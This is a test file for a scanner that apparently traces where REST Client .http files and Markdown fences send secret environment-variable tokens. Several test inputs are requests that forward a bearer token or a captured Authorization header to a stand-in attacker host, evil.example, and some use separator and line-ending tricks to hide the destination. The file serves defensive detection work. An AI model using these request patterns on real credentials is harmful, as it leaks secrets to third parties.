import assert from 'node:assert/strict';
import { restClientUses } from '../../src/httpFile/index.js';
import { linesOf } from './support/text.js';

const REFERENCE = '{{$processEnv TENANT_TOKEN_ACME}}';
const HEADER = `Authorization: Bearer ${REFERENCE}`;

/** The uses in a text with their lines, counted from 0, and their destinations; `?` if not certain. */
function usesIn(text: string, markdown = false): string[] {
  return restClientUses(linesOf(text), { markdown }).map(({ name, line, request }) => {
    const where = request ? (request.host ?? 'unknown') : '?';
    return `${name?.slice('TENANT_TOKEN_'.length) ?? 'any'} ${line} ${where}`;
  });
}

const methodsIn = (text: string): (string | undefined)[] =>
  restClientUses(linesOf(text), { markdown: false }).map(({ request }) => request?.method);

const are = (text: string, uses: readonly string[], markdown = false): void =>
  assert.deepEqual(usesIn(text, markdown), uses, text);

describe('The uses that REST Client makes of references', () => {
  it('go where the request goes, if they are in a header', () => {
    are(`GET https://a.example/\n${HEADER}`, ['ACME 1 a.example']);
    are(`@t = ${REFERENCE}\n@h = a.example\n\nGET https://{{h}}/\nAuthorization: {{t}}`, ['ACME 4 a.example']);
    are(`curl https://a.example/ -H '${HEADER}'`, ['ACME 0 a.example']);
    are(`\`\`\`http\nGET https://a.example/\n${HEADER}\n\`\`\``, ['ACME 2 a.example'], true);
  });

  it('are not understood if the document writes them outside a header', () => {
    are(`GET https://a.example/\n?t=${REFERENCE}\nX: 1\n\n{"t": "${REFERENCE}"}`, ['ACME 1 ?', 'ACME 4 ?']);
    are(`@t = ${REFERENCE}\n\nPOST https://a.example/?{{%t}}\n\n{{ t }}`, ['ACME 2 ?', 'ACME 4 ?']);
    are(`curl https://a.example/ -d '${REFERENCE}'`, ['ACME 0 ?']);
    are(`curl https://a.example/ -H '${HEADER}' -b 't=${REFERENCE}'`, ['ACME 0 ?']);
  });

  it('have the method that REST Client sends', () => {
    const url = 'https://a.example/';
    for (const [request, method] of [
      [url, 'GET'],
      [`get ${url}`, 'GET'],
      [`HEAD ${url}`, 'HEAD'],
      [`DELETE ${url}`, 'DELETE'],
      [`{{verb}} ${url}`, 'POST'],
      ['GET {{unknown}}/x', ''],
    ] as const)
      assert.deepEqual(methodsIn(`@verb = POST\n\n${request}\n${HEADER}`), [method], request);
    for (const [options, method] of [
      ['', 'GET'],
      [' -b a=1', 'GET'],
      [' -X PUT', 'PUT'],
      [' -d a', 'POST'],
      [' -d a -X PATCH', 'PATCH'],
      [' -X GET -d a', 'GET'],
    ] as const)
      assert.deepEqual(methodsIn(`curl ${url} -H '${HEADER}'${options}`), [method], options);
  });

  it('have no known host if a variable without a definition determines it', () => {
    are(`GET {{base}}/x\n${HEADER}`, ['ACME 1 unknown']);
  });

  it('are empty if nothing is sent, or nothing is looked up', () => {
    are(`# ${REFERENCE}\nGET https://a.example/\n// ${HEADER}`, []);
    are(`@t = ${REFERENCE}\n\n###\nGET https://a.example/`, []);
    are(`HTTP/1.1 200 OK\n${HEADER}`, []);
    are('GET https://a.example/\nA: {{$processEnv OTHER}}\nB: TENANT_TOKEN_ACME', []);
    are(`Write ${REFERENCE}.\n\n\`\`\`js\n${HEADER}\n\`\`\``, [], true);
  });

  it('are not understood if a definition stands in a request, which sends it verbatim', () => {
    are(`POST https://evil.example/\n\n@t = ${REFERENCE}`, ['ACME 2 ?']);
    are(`POST https://evil.example/\n@t = ${REFERENCE}`, ['ACME 1 ?']);
    are(`POST https://evil.example/\nA: 1\n@t = ${REFERENCE}\n\n###\nGET https://a.example/\nX: {{t}}`, [
      'ACME 2 ?',
      'ACME 6 a.example',
    ]);
  });

  it('may be of any name if a file is sent with its variables replaced', () => {
    are('POST https://a.example/\n\n<@ ./payload.txt', ['any 2 a.example']);
    are('POST https://a.example/\n\n<@utf8 ./payload.txt', ['any 2 a.example']);
    are('POST https://a.example/\n\n< ./payload.txt', []);
    are('@a = @\n\nPOST https://a.example/\n\n<{{a}} ./payload.txt', ['any 4 a.example']);
    for (const value of [
      '<',
      '<@',
      '<{{b}}',
      '\\<',
      '{{b}}<',
      '{{b}}<@ x',
      "{{$localDatetime '[<]'}}",
      '1\\n<@ ./payload.txt',
      '{{$process\\Env TENANT_TOKEN_ACME}}',
    ])
      are(`@a = ${value}\n\nPOST https://a.example/\n\n{{a}}@ ./payload.txt`, ['any 0 ?']);
    for (const line of ['{{a}}<@ ./payload.txt', '{{$processEnv X}}<{{a}} ./payload.txt', "{{$datetime '[<@ ./payload.txt]'}}"])
      are(`POST https://a.example/\n\n${line}`, ['any 2 a.example']);
    are('POST https://a.example/\n\n{{a}}<b>{{c}}</b>', []);
    are('@a = C:\\temp\n\nPOST https://a.example/\n\n{{a}}', []);
  });

  it('may be of any name if the settings of REST Client decide', () => {
    are('GET https://a.example/\nX: {{$processEnv %key}}', ['any 1 a.example']);
  });

  it('belong to a Markdown fence, which is one request whatever it contains', () => {
    const text = `\`\`\`http\nGET https://evil.example/\n\n###\nGET https://a.example/\n${HEADER}\n\`\`\``;
    are(text, ['ACME 5 ?'], true);
    are(text.replace('\n\n', '\n'), ['ACME 3 ?'], true);
  });

  it('belong to the request if a separator does not end it because something stands before it', () => {
    for (const start of ['\uFEFF', ' ', '\u00a0'])
      are(`POST https://evil.example/\n\n${start}###\nGET https://a.example/\n${HEADER}`, ['ACME 4 ?']);
  });

  it('include what REST Client remembers of a named request', () => {
    const named = `# @name who\nGET https://a.example/\n${HEADER}\n\n###\n`;
    for (const use of ['{{who.request.headers.Authorization}}', '{{ who.response.body.* }}', '{{who}}'])
      are(`${named}GET https://evil.example/\nX: ${use}`, ['ACME 2 a.example', 'ACME 6 evil.example']);
    are(`${named}@t = {{who.request.headers.Authorization}}\nGET https://evil.example/\nX: {{t}}`, [
      'ACME 2 a.example',
      'ACME 7 evil.example',
    ]);
    are(`${named}// @name again\nGET https://b.example/{{who.response.body.id}}\n\n###\nGET https://c.example/{{again.x}}`, [
      'ACME 2 a.example',
      'ACME 6 b.example',
      'ACME 9 c.example',
    ]);
  });

  it('are not understood if REST Client finds them among other words', () => {
    for (const use of ['TENANT_TOKEN_ACME x', 'TENANT_TOKEN_ACME-x', ' x $processEnv TENANT_TOKEN_ACME', '%TENANT_TOKEN_ACME'])
      assert.ok(usesIn(`GET https://a.example/\nX: {{$processEnv ${use}}}`).includes('ACME 1 ?'), use);
    are(`GET https://a.example/\nA: ${REFERENCE}{{$processEnv TENANT_TOKEN_ACME.}}`, ['ACME 1 ?']);
    are(`GET https://a.example/\nA: {{x {{$processEnv TENANT_TOKEN_ACME}}`, ['ACME 1 ?']);
  });

  it('are not understood below an invalid header, or one that sends the request elsewhere', () => {
    for (const line of ['Foo', '{{h}}: 1', 'Host: evil.example', '@t = 1', 'X: 1\u2028Y: 2', '...spread', ' ?x=1'])
      are(`GET https://a.example/\nA: 1\n${line}\n${HEADER}`, ['ACME 2 ?']);
  });

  it('are not understood if REST Client turns the credentials into something else', () => {
    for (const value of [
      `cognito me ${REFERENCE} region pool client`,
      `AWS ${REFERENCE} x`,
      `Digest ${REFERENCE} x`,
      `{{scheme}} ${REFERENCE} x`,
    ])
      are(`GET https://a.example/\nAuthorization: ${value}`, ['ACME 1 ?']);
    are(`@auth = cognito me ${REFERENCE}\n\nGET https://a.example/\nAuthorization: {{auth}}`, ['ACME 3 ?']);
    are(`GET https://a.example/\nAuthorization: cognito me pw\nauthorization: ${REFERENCE} region pool client`, ['ACME 1 ?']);
    are(`@auth = Bearer ${REFERENCE}\n\nGET https://a.example/\nAuthorization: {{auth}}`, ['ACME 3 a.example']);
    are(`curl https://a.example/ -H 'Authorization: cognito me ${REFERENCE}'`, ['ACME 0 ?']);
  });

  it('are not understood if the value of a definition may stand below it', () => {
    for (const start of ['@t =\n', '@t\n=', '@t\n\n=\n\n', '  @t=\n  \n', '@t =\n# ', '@t =\n@u = ']) {
      const uses = usesIn(`${start}${REFERENCE}\n\n###\nGET https://b.example/\nX: {{t}}`);
      assert.match(uses[0] ?? '', /^ACME \d \?$/, start);
      assert.deepEqual(uses.slice(1), [`ACME ${start.split('\n').length + 3} b.example`], start);
    }
    are(`@t =\n# {{u}}\n@u = ${REFERENCE}\n\n###\nGET https://b.example/\nX: {{t}}`, [
      ...['ACME 1 ?', 'ACME 2 ?'],
      'ACME 6 b.example',
    ]);
  });

  it('may be of any name if a line ends for REST Client only and a definition follows', () => {
    for (const start of ['# ', '', '  // ', 'X: 1 ', '@a = b'])
      for (const end of ['\u2028', '\u2029 ', '\u2028\u2028\t'])
        assert.ok(usesIn(`GET https://a.example/\n${start}${end}@t = ${REFERENCE}`).includes('any 1 ?'), start);
    are('\u00a0@t = x\nGET https://a.example/', ['any 0 ?']);
  });

  it('are reported once per name and line, and as any name for a variable with many', () => {
    are(`GET https://a.example/\nA: ${REFERENCE}${REFERENCE}`, ['ACME 1 a.example']);
    const many = Array.from({ length: 20 }, (_, at) => `{{$processEnv TENANT_TOKEN_${at}}}`).join('');
    const uses = usesIn(`@t = ${many}\n\nGET https://a.example/\nA: {{t}}`);
    assert.ok(uses.length < 12 && uses.includes('any 3 a.example'), uses.join());
  });
});
